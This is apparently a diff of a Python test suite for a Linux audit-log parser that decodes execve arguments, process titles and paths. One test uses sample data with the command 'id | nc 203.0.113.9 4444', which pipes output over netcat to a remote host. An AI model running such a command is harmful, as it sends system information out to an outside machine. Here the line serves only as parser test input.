@@ -6,16 +6,17 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
+from daemon.events.audit_caller import read_caller
 from daemon.events.audit_shape import (
     MARK,
     SHAPE,
     Shape,
     are_names,
     decode_title,
-    read_caller,
+    decode_titles,
+    read_arguments,
     read_directory,
     split_address,
-    split_arguments,
     split_paths,
 )
 from daemon.events.audit_values import to_text
@@ -59,18 +60,24 @@ def paths_of(row: Shape) -> list[bytes]:
     return [*filter(None, (row.path, row.path2)), *others.split(b"\n")[:-1]]
 
 
+def arguments_of(row: Shape) -> object:
+    """What is found in the record with the arguments; None for one that is not as usual."""
+    (found,) = read_arguments([row.argc], [row.arguments])
+    return found
+
+
 def is_usual(row: Shape) -> bool:
     """Whether all parts of a row are as they should be."""
     if row.alone:
         return are_names(row.names) and MARK not in row.said
     return bool(
         row.stamp
-        and read_caller(row.ids, row.exe, row.rest)
+        and read_caller(row.what, row.who)
         and decode_title(row.title) is not None
         and split_paths(paths_of(row)) is not None
         and (not row.cwd or read_directory(row.cwd))
         and (not row.saddr or split_address(row.saddr))
-        and (not row.argc or split_arguments(row.arguments))
+        and (not row.argc or arguments_of(row))
     )
 
 
@@ -81,8 +88,8 @@ def is_whole(data: bytes) -> bool:
 def test_a_call_is_taken_apart() -> None:
     (row,) = rows_of(FULL)
     assert (row.stamp, row.serial, row.items, row.pid, row.ppid) == (b"1.1", b"7", b"2", b"3", b"2")
-    assert (row.exe, row.argc, row.arguments, row.title) == (b"/bin/c", b"1", b'a0="c"', b"63")
-    caller = read_caller(row.ids, row.exe, row.rest)
+    assert (row.argc, row.arguments, row.title) == (b"1", b'a0="c"', b"63")
+    caller = read_caller(row.what, row.who)
     assert caller is not None
     assert (caller.image, caller.key, caller.name, caller.user) == ("/bin/c", "k", "execve", "alice")
     assert (caller.auid, caller.uid, caller.euid, caller.tty) == ("1000", "1000", "1000", "pts0")
@@ -102,9 +109,9 @@ def test_the_usual_start_of_a_program_has_the_shape_in_both_formats() -> None:
     assert is_whole(FULL)
     assert is_whole(raw)
     (row,) = rows_of(raw)
-    caller = read_caller(row.ids, row.exe, row.rest)
+    caller = read_caller(row.what, row.who)
     assert caller is not None
-    assert (caller.name, caller.user) == ("", "")
+    assert (caller.name, caller.named, caller.user) == ("execve", False, "")
 
 
 def test_paths_beyond_the_second_stand_together() -> None:
@@ -181,6 +188,11 @@ def test_a_path_behind_which_the_line_ends_in_cr_lf_is_refused() -> None:
     assert not is_whole(raw.replace(b"NORMAL\n", b"NORMAL\r\n"))
 
 
+def test_a_record_of_a_long_program_is_refused() -> None:
+    for length in (63, 64):
+        assert is_whole(ALONE.replace(b"/usr/sbin/sshd", b"/" + b"s" * (length - 1))) == (length < 64)
+
+
 @pytest.mark.parametrize("acct", [b'"x\x1d"', b"7861", b'"x"y"'])
 def test_a_record_of_a_program_with_hostile_text_is_refused(acct: bytes) -> None:
     assert not is_whole(ALONE.replace(b'acct="x"', b"acct=" + acct))
@@ -207,11 +219,12 @@ def test_a_row_is_one_event_from_the_beginning_of_a_line_to_the_end_of_one(seed:
 def is_decoded(row: Shape, records: list[Record]) -> None:
     """The parts of a call are the values of its records."""
     call, title = decode_record(records[0]).fields, decode_record(records[-1]).fields["proctitle"]
-    caller, decoded = read_caller(row.ids, row.exe, row.rest), decode_title(row.title)
+    caller, decoded = read_caller(row.what, row.who), decode_title(row.title)
     assert caller is not None
     said = (caller.image, to_text(row.pid), to_text(row.ppid), caller.uid, caller.key)
     assert said == tuple(call[key] for key in ("exe", "pid", "ppid", "uid", "key"))
-    assert (caller.name, caller.user) == (call.get("SYSCALL", ""), call.get("UID", ""))
+    assert (caller.named, caller.user) == ("SYSCALL" in call, call.get("UID", ""))
+    assert caller.name == call.get("SYSCALL", caller.name)
     assert decoded is not None
     assert to_text(decoded) == title
     names = [decode_record(record).fields for record in records if record.kind == "PATH"]
@@ -236,24 +249,36 @@ said = st.lists(
 @given(said, st.sampled_from([b" ", b"  "]))
 def test_arguments_are_those_of_the_record(values: list[bytes], between: bytes) -> None:
     body = between.join(b"a%d=%s" % one for one in enumerate(values))
-    split = split_arguments(body)
+    (split,) = read_arguments([b"%d" % len(values)], [body])
     if split is not None:
         decoded, arguments = decode_execve([record_of(HEAD + body)])
         assert tuple(map(to_text, split[0])) == arguments
-        assert HEAD.decode() + to_text(split[1]) == decoded.text
+        assert to_text(split[1]) == " ".join(arguments)
+        assert HEAD.decode() + to_text(split[2] or body) == decoded.text
+
+
+@given(st.lists(said, max_size=5))
+def test_records_with_arguments_read_together_say_what_each_says(records: list[list[bytes]]) -> None:
+    bodies = [b" ".join(b"a%d=%s" % one for one in enumerate(values)) for values in records]
+    counts = [b"%d" % len(values) for values in records]
+    together = read_arguments(counts, bodies)
+    each = [read_arguments([count], [body])[0] for count, body in zip(counts, bodies, strict=True)]
+    assert [found and (list(found[0]), *found[1:]) for found in together] == [
+        found and (list(found[0]), *found[1:]) for found in each
+    ]
 
 
 @pytest.mark.parametrize(
     "body", [b'a1="x" a0="y"', b'a0="x" a0="y"', b'a0="x"  a1="y"', b"a0[0]=41 a0[1]=42", b'a0_len=4 a0="x"', b'a0="x']
 )
 def test_arguments_in_another_order_are_refused(body: bytes) -> None:
-    assert split_arguments(body) is None
+    assert read_arguments([b"2"], [body]) == [None]
 
 
 def test_most_arguments_are_split() -> None:
     lines = execve(1, "sh", "-c", "id | nc 203.0.113.9 4444", "é")
     body = lines[1].partition("argc=4 ")[2].encode()
-    split = split_arguments(body)
+    (split,) = read_arguments([b"4"], [body])
     assert split is not None
     assert [one.decode() for one in split[0]] == ["sh", "-c", "id | nc 203.0.113.9 4444", "é"]
 
@@ -262,3 +287,23 @@ def test_titles() -> None:
     assert decode_title(b'"a b"') == b"a b"
     assert decode_title(b"6C73002D6C0000") == b"ls -l"
     assert decode_title(b"6C7") is None
+
+
+titles = st.lists(
+    st.one_of(
+        st.binary(min_size=1, max_size=9).map(lambda raw: raw.hex().upper().encode()),
+        st.sampled_from(
+            [b'"ls"', b'"', b'"a\x01"', b"6C7", b"6c", b"00", b"6C0000", b"zz", MARK.hex().upper().encode()]
+        ),
+    ),
+    max_size=6,
+)
+
+
+@given(titles)
+def test_titles_decoded_together_are_those_decoded_one_by_one(said: list[bytes]) -> None:
+    assert list(decode_titles(said)) == [decode_title(one) for one in said]
+
+
+def test_two_halves_of_a_byte_are_no_byte() -> None:
+    assert list(decode_titles([b"6C7", b"36C", b"6C73"])) == [None, None, b"ls"]
